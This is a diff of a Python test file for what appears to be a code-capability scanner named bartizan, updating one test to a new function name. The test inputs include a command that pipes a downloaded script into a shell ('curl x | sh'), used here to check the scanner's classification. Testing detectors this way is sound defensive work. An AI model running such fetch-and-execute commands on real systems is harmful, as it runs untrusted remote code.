@@ -9,7 +9,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from bartizan.artifacts import Held, Report, scan
-from bartizan.artifacts.code import capabilities
+from bartizan.artifacts.code import capabilities_by_hand
 from bartizan.artifacts.fact import Calls, ReadsPath, WritesPath
 from tests.artifacts.readers.fuzzing import mutants, survives
 
@@ -250,5 +250,5 @@ def test_no_mutant_breaks_the_scan(data: bytes) -> None:
 
 
 def test_code_started_by_hand_is_told_as_such() -> None:
-    assert [fact.rule for fact in capabilities("import os\nos.system('id')", by_hand=True)] == ["later"]
-    assert [fact.rule for fact in capabilities("import os\nos.system('curl x | sh')", by_hand=True)] == ["code"]
+    assert [fact.rule for fact in capabilities_by_hand({"": "import os\nos.system('id')"}, 99)] == ["later"]
+    assert [fact.rule for fact in capabilities_by_hand({"": "import os\nos.system('curl x | sh')"}, 99)] == ["code"]
